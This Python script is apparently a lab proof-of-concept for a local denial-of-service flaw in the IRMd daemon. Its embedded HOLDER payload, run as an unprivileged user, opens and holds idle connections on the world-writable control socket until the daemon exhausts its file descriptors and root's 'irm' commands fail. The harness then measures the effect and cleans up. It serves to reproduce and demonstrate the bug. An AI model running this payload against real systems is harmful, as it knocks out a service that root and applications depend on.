"""irmd: any local user takes every descriptor of the IRMd with idle control connections.

The control socket is mode 0666 and the IRMd accepts connections without a limit per uid (or in
all). uid 65534 opens connections from two processes (each its own RLIMIT_NOFILE) and holds them
without a word; the IRMd runs out of descriptors, and root's `irm` (and every application's
flow_alloc) fails until the attacker lets go.
"""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

from lab import irmd, lab, main, nobody_popen, stop, wait_for

HOLDER = r"""
import resource, socket, sys, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
stuck_since = None
while len(held) < int(sys.argv[2]):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.connect(sys.argv[1])
    except (BlockingIOError, InterruptedError):  # the backlog is full: the IRMd accepts no more, or not yet
        s.close()
        stuck_since = stuck_since or time.monotonic()
        if time.monotonic() - stuck_since > 3:
            break
        time.sleep(0.01)
        continue
    except OSError:
        s.close()
        break
    stuck_since = None
    held.append(s)
print("holding", len(held), flush=True)
time.sleep(120)
"""


def fd_count(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def attack() -> bool:
    with lab("connexhaust") as d, irmd(d) as ir:
        soft = int(Path(f"/proc/{ir.pid}/limits").read_text().split("Max open files")[1].split()[0])
        print(f"the IRMd may hold {soft} descriptors; it holds {fd_count(ir.pid)}")
        assert ir.irm("ipcp", "list").returncode == 0
        per = soft // 2 + 200
        holders = [nobody_popen(ir, HOLDER, str(ir.sock), str(per), stdout=subprocess.DEVNULL) for _ in range(2)]
        try:
            wait_for(lambda: fd_count(ir.pid) >= soft - 2, 90, "the IRMd to run out of descriptors")
            print(f"the IRMd holds {fd_count(ir.pid)} descriptors now")
            size0, cpu0 = ir.log.stat().st_size, cpu_seconds(ir.pid)
            time.sleep(2.0)
            size1, cpu1 = ir.log.stat().st_size, cpu_seconds(ir.pid)
            print(
                f"while the attacker holds them: IRMd CPU {(cpu1 - cpu0) / 2:.0%}, its log grows "
                f"{(size1 - size0) / 2 / 1e6:.1f} MB/s ('accept failed: Too many open files')"
            )
            try:
                r = ir.irm("ipcp", "list", timeout=20)
                print("root's irm ipcp list:", r.returncode, (r.stderr or r.stdout).strip()[-200:])
                denied = r.returncode != 0
            except subprocess.TimeoutExpired:
                print("root's irm ipcp list: no answer in 20 s")
                denied = True
        finally:
            for h in holders:
                stop(h)
        wait_for(lambda: ir.irm("ipcp", "list").returncode == 0, 30, "the IRMd to serve again")
        print("after the attacker let go, root's irm works again")
        return denied


if __name__ == "__main__":
    main(attack, 200)
